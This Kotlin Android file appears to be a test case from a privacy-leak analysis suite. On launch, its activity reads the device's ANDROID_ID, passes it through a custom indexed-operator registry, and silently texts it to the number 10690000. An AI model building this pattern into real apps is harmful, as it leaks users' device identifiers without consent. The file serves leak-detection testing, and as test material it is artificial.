package cn.privlens.suite.indexed_operators

import android.app.Activity
import android.os.Bundle
import android.provider.Settings
import android.telephony.SmsManager

class Registry {
    private var device = ""
    private var theme = ""
    operator fun set(key: String, value: String) {
        when (key) {
            "device" -> device = value
            "theme" -> theme = value
        }
    }
    operator fun get(key: String): String = when (key) {
        "device" -> device
        "theme" -> theme
        else -> ""
    }
}

class Main : Activity() {
    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        val registry = Registry()
        registry["device"] = Settings.Secure.getString(contentResolver, Settings.Secure.ANDROID_ID)
        registry["theme"] = "dark"
        SmsManager.getDefault().sendTextMessage("10690000", null, registry["device"], null, null)
    }
}
